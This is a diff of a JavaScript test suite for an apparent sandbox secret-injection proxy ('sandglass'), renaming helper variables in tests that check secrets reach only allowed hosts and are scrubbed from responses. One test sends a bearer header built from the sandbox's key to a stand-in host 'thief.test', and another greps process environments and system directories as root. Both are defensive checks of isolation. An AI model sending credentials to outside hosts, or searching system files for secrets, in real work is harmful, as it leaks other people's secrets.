@@ -50,10 +50,10 @@ const name = () => `k-${unique()}`
 const value = () => `value-${unique()}`
 // With an allow-list of names the guard gives out addresses that stand for them: the loopback's would be the sandbox's own.
 const reach = { allowOut: ['*.test'], denyOut: [e2b.ALL_TRAFFIC] }
-const box = async (opts) => mine(await Sandbox.create('base', { ...as, network: reach, ...opts }))
+const make = async (opts) => mine(await Sandbox.create('base', { ...as, network: reach, ...opts }))
 const rule = (domain, headers) => ({ network: { ...reach, rules: { [domain]: [{ transform: { headers } }] } } })
 const last = (host) => seen.filter((s) => s.host === host).at(-1)?.headers
-const get = (b, url, more = '') => sh(b, `curl -sS -m 10 -D - ${more} ${url}`)
+const get = (sandbox, url, more = '') => sh(sandbox, `curl -sS -m 10 -D - ${more} ${url}`)
 const hosts = (list) => ({ ...as, metadata: { 'sandglass.hosts': list } })
 
 function sandglass(args, { input = '', env = {} } = {}) {
@@ -160,14 +160,14 @@ test('a value is nowhere but sealed', async () => {
 test('a rule puts a secret into a header, and what comes back is scrubbed', async () => {
   const [n, v] = [name(), value()]
   await Secret.create(n, v, as)
-  const b = await box(rule('api.test', { Authorization: `Bearer ${Secret.fill(n.toUpperCase())}` }))
+  const sandbox = await make(rule('api.test', { Authorization: `Bearer ${Secret.fill(n.toUpperCase())}` }))
   for (const url of [`http://api.test:${PLAIN}/`, `https://api.test:${TLS}/`]) {
-    const answer = await get(b, url)
+    const answer = await get(sandbox, url)
     same(last('api.test')?.authorization, `Bearer ${v}`, url)
     assert.ok(!answer.includes(v), answer)
     assert.ok(!answer.includes(Buffer.from(`Bearer ${v}`).toString('base64')), answer)
   }
-  await get(b, `http://other.test:${PLAIN}/`)
+  await get(sandbox, `http://other.test:${PLAIN}/`)
   same(last('other.test').authorization, undefined, 'another host gets nothing')
   await Secret.destroy(n, as)
 })
@@ -175,18 +175,18 @@ test('a rule puts a secret into a header, and what comes back is scrubbed', asyn
 test('a new value counts at once in a sandbox that runs, and a removed one is gone', async () => {
   const [n, first, second] = [name(), value(), value()]
   await Secret.create(n, first, as)
-  const b = await box(rule('live.test', { 'X-Key': Secret.fill(n) }))
-  await get(b, `http://live.test:${PLAIN}/`)
+  const sandbox = await make(rule('live.test', { 'X-Key': Secret.fill(n) }))
+  await get(sandbox, `http://live.test:${PLAIN}/`)
   same(last('live.test')['x-key'], first)
   await Secret.update(n, second, as)
   await eventually('the new value', async () => {
-    await get(b, `http://live.test:${PLAIN}/`)
+    await get(sandbox, `http://live.test:${PLAIN}/`)
     return last('live.test')['x-key'] === second
   })
   await Secret.destroy(n, as)
   const before = seen.length
   await eventually('no value any more', async () => {
-    const answer = await get(b, `http://live.test:${PLAIN}/`)
+    const answer = await get(sandbox, `http://live.test:${PLAIN}/`)
     return /^HTTP\/1\.1 502/.test(answer) && seen.length >= before
   })
   assert.ok(!seen.slice(-1).some((s) => s.headers['x-key'] === ''))
@@ -194,12 +194,12 @@ test('a new value counts at once in a sandbox that runs, and a removed one is go
 
 test('a rule that names what is not there', async () => {
   const n = name()
-  await rejects(box(rule('api.test', { 'X-Key': Secret.fill(n) })), e2b.SandboxError, new RegExp(`^400: .*'${n}'`))
+  await rejects(make(rule('api.test', { 'X-Key': Secret.fill(n) })), e2b.SandboxError, new RegExp(`^400: .*'${n}'`))
   await Secret.create(n, value(), hosts('only.test'))
-  await rejects(box(rule('api.test', { 'X-Key': Secret.fill(n) })), e2b.SandboxError, /^400: .*may not go to 'api\.test'/)
-  const b = await box({})
+  await rejects(make(rule('api.test', { 'X-Key': Secret.fill(n) })), e2b.SandboxError, /^400: .*may not go to 'api\.test'/)
+  const sandbox = await make({})
   const rules = rule('api.test', { 'X-Key': Secret.fill('nobody') }).network.rules
-  await rejects(b.updateNetwork({ rules }), e2b.SandboxError, /^400: .*'nobody'/)
+  await rejects(sandbox.updateNetwork({ rules }), e2b.SandboxError, /^400: .*'nobody'/)
   await Secret.destroy(n, as)
 })
 
@@ -209,44 +209,44 @@ test('a variable has a placeholder, which is worth something toward its hosts al
   const [n, v] = [name(), value()]
   await Secret.create(n, v, hosts('api.test, *.wild.test'))
   const envs = { API_KEY: Secret.fill(n), PLAIN: 'plain' }
-  const [b, other] = [await box({ envs }), await box({ envs })]
-  const inside = await sh(b, 'echo $API_KEY')
+  const [sandbox, other] = [await make({ envs }), await make({ envs })]
+  const inside = await sh(sandbox, 'echo $API_KEY')
   assert.match(inside, /^sgph_[0-9a-f]{32}$/)
-  same(await sh(b, 'echo $PLAIN'), 'plain')
+  same(await sh(sandbox, 'echo $PLAIN'), 'plain')
   assert.notEqual(await sh(other, 'echo $API_KEY'), inside, 'one for each sandbox')
   const bearer = '-H "Authorization: Bearer $API_KEY"'
   for (const [url, host] of [[`https://api.test:${TLS}/`, 'api.test'], [`http://a.wild.test:${PLAIN}/`, 'a.wild.test']]) {
-    const answer = await get(b, url, bearer)
+    const answer = await get(sandbox, url, bearer)
     same(last(host)?.authorization, `Bearer ${v}`, host)
     assert.ok(!answer.includes(v), answer)
   }
-  await get(b, `http://thief.test:${PLAIN}/`, bearer)
+  await get(sandbox, `http://thief.test:${PLAIN}/`, bearer)
   same(last('thief.test').authorization, `Bearer ${inside}`, 'others get the placeholder')
-  await get(b, `http://api.test:${PLAIN}/?q=$API_KEY`, '-H "X-Other: $API_KEY"')
+  await get(sandbox, `http://api.test:${PLAIN}/?q=$API_KEY`, '-H "X-Other: $API_KEY"')
   same(last('api.test')['x-other'], inside, 'as do other headers')
-  await get(b, `http://api.test:${PLAIN}/`, '-u "user:$API_KEY"')
+  await get(sandbox, `http://api.test:${PLAIN}/`, '-u "user:$API_KEY"')
   same(last('api.test').authorization, `Basic ${Buffer.from(`user:${v}`).toString('base64')}`, 'inside Basic')
-  same(await sh(b, `grep -rl ${v} /proc/*/environ /etc /home /run /tmp 2>/dev/null | wc -l`, { user: 'root' }), '0')
+  same(await sh(sandbox, `grep -rl ${v} /proc/*/environ /etc /home /run /tmp 2>/dev/null | wc -l`, { user: 'root' }), '0')
   await Secret.destroy(n, as)
 })
 
 test('a secret without hosts is for rules alone', async () => {
   const n = name()
   await Secret.create(n, value(), as)
-  await rejects(box({ envs: { K: Secret.fill(n) } }), e2b.SandboxError, /^400: .*sandglass\.hosts/)
-  await rejects(box({ envs: { K: Secret.fill('nobody') } }), e2b.SandboxError, /^400: .*'nobody'/)
+  await rejects(make({ envs: { K: Secret.fill(n) } }), e2b.SandboxError, /^400: .*sandglass\.hosts/)
+  await rejects(make({ envs: { K: Secret.fill('nobody') } }), e2b.SandboxError, /^400: .*'nobody'/)
   await Secret.destroy(n, as)
 })
 
 test('a front that was killed knows them again', async () => {
   const [n, v] = [name(), value()]
   await Secret.create(n, v, hosts('api.test'))
-  const b = await box({ envs: { K: Secret.fill(n) } })
-  const inside = await sh(b, 'echo $K')
+  const sandbox = await make({ envs: { K: Secret.fill(n) } })
+  const inside = await sh(sandbox, 'echo $K')
   process.kill(front(server), 'SIGKILL')
   await eventually('it answers', async () => (await fetch(`${server.url}/health`)).status === 204)
-  same(await sh(b, 'echo $K'), inside)
-  await get(b, `http://api.test:${PLAIN}/`, '-H "X-Api-Key: $K"')
+  same(await sh(sandbox, 'echo $K'), inside)
+  await get(sandbox, `http://api.test:${PLAIN}/`, '-H "X-Api-Key: $K"')
   same(last('api.test')['x-api-key'], v)
   same((await Secret.getInfo(n, as)).version, 1)
   await Secret.destroy(n, as)
@@ -267,8 +267,8 @@ test('sandglass secret set, ls, show, rm', async () => {
   const shown = await works(['secret', 'show', n])
   assert.match(shown, /^hosts +api\.test,\*\.b\.test$/m)
   assert.ok(JSON.parse(await works(['secret', 'ls', '--json'])).some((s) => s.secretID === answer.secretID))
-  const b = await box({ envs: { K: Secret.fill(n) } })
-  await get(b, `http://api.test:${PLAIN}/`, '-H "X-Key: $K"')
+  const sandbox = await make({ envs: { K: Secret.fill(n) } })
+  await get(sandbox, `http://api.test:${PLAIN}/`, '-H "X-Key: $K"')
   same(last('api.test')['x-key'], v, 'the value is what was given')
   same(await works(['secret', 'rm', n]), `${n}\n`)
   const gone = await sandglass(['secret', 'show', n])
